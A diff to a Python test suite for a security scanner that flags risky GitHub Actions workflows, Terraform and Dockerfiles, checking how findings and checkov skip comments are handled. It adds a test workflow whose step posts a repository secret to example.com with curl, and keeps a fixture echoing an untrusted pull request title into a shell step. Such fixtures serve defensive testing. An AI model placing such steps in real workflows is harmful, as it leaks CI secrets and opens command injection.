@@ -17,6 +17,15 @@ jobs:
     steps:
       - run: echo "${{ github.event.pull_request.title }}"
 """
+CURL = """\
+on: push
+permissions: {}
+jobs:
+  a:
+    runs-on: ubuntu-24.04
+    steps:
+    - run: curl -d "${{ secrets.TOKEN }}" https://example.com
+"""
 ACTION = """\
 name: greet
 description: greets
@@ -130,7 +139,13 @@ def scan(new_repository):
 @pytest.mark.parametrize("name", CASES)
 def test_what_fails_open_elsewhere_does_not_here(scan, name):
     wanted = CASES[name][1]
-    found = {f["rule"] for f in scan.findings() if f["location"]["path"] == name}
+    # Where zizmor knows it too, its finding stays and names checkov's.
+    found = {
+        rule.removeprefix("infrastructure:")
+        for f in scan.findings()
+        if f["location"]["path"] == name
+        for rule in (f["rule"], *f["also"])
+    }
     assert wanted in found | {scan.file(name)["status"]}
 
 
@@ -219,7 +234,7 @@ def test_a_module_outside_the_tree_is_not_read(repository, tmp_path):
     [
         ("main.tf", PUBLIC.replace("{\n", "{\n  # checkov:skip=CKV_AWS_20:we know\n", 1), "CKV_AWS_20"),
         ("Dockerfile", "# checkov:skip=CKV_DOCKER_8:we know\n" + DOCKERFILE + "USER root\n", "CKV_DOCKER_8"),
-        (".github/workflows/w.yml", "# checkov:skip=CKV_GHA_2:we know\n" + INJECTION, "CKV_GHA_2"),
+        (".github/workflows/w.yml", "# checkov:skip=CKV_GHA_3:we know\n" + CURL, "CKV_GHA_3"),
         (
             "stack.yaml",
             STACK.replace("    Type", "    # checkov:skip=CKV_AWS_20:we know\n    Type"),
